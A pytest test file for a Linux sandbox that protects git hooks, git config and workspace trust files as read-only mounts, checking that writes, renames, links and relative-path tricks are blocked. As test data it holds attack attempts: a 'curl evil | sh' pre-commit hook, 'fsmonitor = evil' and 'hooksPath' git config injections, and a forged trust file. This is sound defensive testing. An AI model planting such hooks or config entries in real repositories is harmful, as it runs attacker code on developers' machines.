"""Protected paths inside the writable workspace: read-only bind mounts in a private mount namespace.

Fixtures come from conftest.py (typed Any: the rootdir conftest shadows ours as a module name).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

import pytest
from vtcode_landlock.errors import ProtectedPathError
from vtcode_landlock.namespaces import plan_protection

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="mount namespaces are a Linux kernel feature")


def _protected(ws: Path) -> tuple[str, ...]:
    return (f"{ws}/.git/hooks/", f"{ws}/.git/config", f"{ws}/.vt-workspace-trust", f"{ws}/vtcode.toml",
            f"{ws}/.vtcode/")


@pytest.fixture
def repo(workspace: Path) -> Path:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (workspace / ".git" / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    (workspace / ".vt-workspace-trust").write_text("hmac\n")
    (workspace / "vtcode.toml").write_text("[sandbox]\n")
    (workspace / "src.py").write_text("print(1)\n")
    return workspace


def test_protected_paths_are_read_only_and_the_rest_writable(confine: Any, child: Any, repo: Path) -> None:
    conf = confine(protected_paths=_protected(repo))
    got = child(conf, f"""
        attempt("hook", lambda: open("{repo}/.git/hooks/pre-commit", "w").write("curl evil | sh"))
        attempt("sample", lambda: open("{repo}/.git/hooks/pre-commit.sample", "a").write("x"))
        attempt("config", lambda: open("{repo}/.git/config", "a").write("[core]\\nfsmonitor = evil"))
        attempt("trust", lambda: open("{repo}/.vt-workspace-trust", "w").write("forged"))
        attempt("vtcode_toml", lambda: open("{repo}/vtcode.toml", "w").write(""))
        attempt("vtcode_dir", lambda: open("{repo}/.vtcode/x", "w").write(""))
        attempt("src", lambda: open("{repo}/src.py", "a").write("print(2)"))
        attempt("git_index", lambda: open("{repo}/.git/index", "w").write("x"))
    """)
    assert got == {"hook": "EROFS", "sample": "EROFS", "config": "EROFS", "trust": "EROFS",
                   "vtcode_toml": "EROFS", "vtcode_dir": "EROFS", "src": "ok", "git_index": "ok"}
    assert (repo / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()


def test_protected_paths_cannot_be_moved_away_or_replaced(confine: Any, child: Any, repo: Path) -> None:
    # Renaming a directory that merely contains mount points is allowed by the kernel: `mv .git` would
    # leave the protected hooks behind. Ancestors are pinned by a bind mount of their own: EBUSY.
    conf = confine(protected_paths=_protected(repo))
    got = child(conf, f"""
        attempt("mv_git", lambda: os.rename("{repo}/.git", "{repo}/.git.old"))
        attempt("mv_hooks", lambda: os.rename("{repo}/.git/hooks", "{repo}/.git/h"))
        attempt("rm_config", lambda: os.unlink("{repo}/.git/config"))
        open("{repo}/.git/config.lock", "w").write("[core]\\nhooksPath = /tmp")
        attempt("replace_config", lambda: os.rename("{repo}/.git/config.lock", "{repo}/.git/config"))
        attempt("rm_trust", lambda: os.unlink("{repo}/.vt-workspace-trust"))
        attempt("link_config", lambda: os.link("{repo}/.git/config", "{repo}/cfg"))
    """)
    assert got == {"mv_git": "EBUSY", "mv_hooks": "EBUSY", "rm_config": "EBUSY", "replace_config": "EBUSY",
                   "rm_trust": "EBUSY", "link_config": "EXDEV"}
    assert (repo / ".git" / "hooks").is_dir()


def test_mounts_stay_private_to_the_child(confine: Any, run: Any, repo: Path) -> None:
    conf = confine(protected_paths=_protected(repo))
    assert run(conf, ["/bin/true"]).returncode == 0
    with open("/proc/self/mountinfo") as f:
        assert str(repo) not in f.read()
    (repo / ".git" / "config").write_text("host can still write\n")


def test_missing_hooks_dir_is_created_so_it_can_be_protected(confine: Any, child: Any,
                                                              workspace: Path) -> None:
    # With .git present but no hooks/, an attacker could create .git/hooks/pre-commit. The directory is
    # made empty beforehand and mounted read-only like any other.
    (workspace / ".git").mkdir()
    conf = confine(protected_paths=_protected(workspace))
    assert conf.mounts is not None
    assert str(workspace / ".git" / "hooks") in conf.mounts.created
    got = child(conf, f"""
        attempt("mkdir_hook", lambda: open("{workspace}/.git/hooks/pre-commit", "w"))
    """)
    assert got == {"mkdir_hook": "EROFS"}
    # Missing files are not created (they would litter the tree); the caller must watch them.
    assert set(conf.unprotected) == {f"{workspace}/.git/config", f"{workspace}/.vt-workspace-trust",
                                     f"{workspace}/vtcode.toml"}


def test_without_git_dir_everything_under_it_is_reported_unprotected(confine: Any, run: Any,
                                                                     workspace: Path) -> None:
    # No .git yet: `git init` must keep working, so nothing is created; the caller gets the list.
    conf = confine(protected_paths=_protected(workspace))
    assert f"{workspace}/.git/hooks/" in conf.unprotected
    assert not (workspace / ".git").exists()
    result = run(conf, ["/bin/sh", "-c", "git init -q && git status --short"])
    assert result.returncode == 0, result.stderr


def test_hook_symlinked_into_the_workspace_protects_its_target(confine: Any, child: Any, repo: Path) -> None:
    (repo / "scripts").mkdir()
    (repo / "scripts" / "hook.sh").write_text("#!/bin/sh\n")
    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/hook.sh")
    conf = confine(protected_paths=_protected(repo))
    got = child(conf, f"""
        attempt("target", lambda: open("{repo}/scripts/hook.sh", "a").write("evil"))
        attempt("sibling", lambda: open("{repo}/scripts/other.sh", "w").write("fine"))
    """)
    assert got == {"target": "EROFS", "sibling": "ok"}


def test_protected_file_with_a_hard_link_in_the_workspace_is_refused(confine: Any, repo: Path) -> None:
    # `x` written in a run without protection would write .git/config past any later read-only mount.
    os.link(repo / ".git" / "config", repo / "x")
    with pytest.raises(ProtectedPathError, match=r"also writable as .*/x"):
        confine(protected_paths=_protected(repo))


def test_plan_pins_ancestors_and_orders_parents_first(repo: Path) -> None:
    plan = plan_protection(_protected(repo), [str(repo)])
    assert [(m.path.decode(), m.readonly) for m in plan.mounts] == [
        (f"{repo}/.git", False),
        (f"{repo}/.vt-workspace-trust", True),
        (f"{repo}/.vtcode", True),
        (f"{repo}/vtcode.toml", True),
        (f"{repo}/.git/config", True),
        (f"{repo}/.git/hooks", True),
    ]


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to uid 65534 needs root; non-root runs cover it")
def test_unprivileged_child_uses_a_user_namespace(confine: Any, run: Any, nobody_repo: Path) -> None:
    conf = confine(write_paths=(str(nobody_repo),), tmp_dir=None,
                   protected_paths=(f"{nobody_repo}/.git/hooks/", f"{nobody_repo}/.git/config"))
    script = ("echo ok > f && cat f; echo x >> .git/config || echo config-denied; "
              "touch .git/hooks/pre-commit || echo hook-denied; cat /proc/self/uid_map")
    result = run(conf, ["/bin/sh", "-c", script], cwd=nobody_repo, user=65534, group=65534, extra_groups=[])
    assert result.returncode == 0, result.stderr
    lines = result.stdout.split("\n")
    assert lines[:3] == ["ok", "config-denied", "hook-denied"]
    assert lines[3].split() == ["65534", "65534", "1"]
    assert "Read-only file system" in result.stderr


def test_a_command_started_inside_a_protected_directory_cannot_write_it(
    confine: Any, run: Any, repo: Path
) -> None:
    # The working directory is entered before the read-only binds exist (subprocess does it before
    # preexec_fn): every path must enter it again afterwards, or relative names reach the writable layer.
    conf = confine(protected_paths=_protected(repo))
    hooks = repo / ".git" / "hooks"
    result = run(conf, ["/bin/sh", "-c", "echo evil > pre-commit && echo written || echo denied"], cwd=hooks)
    assert result.stdout.strip() == "denied", result.stderr
    assert not (hooks / "pre-commit").exists()
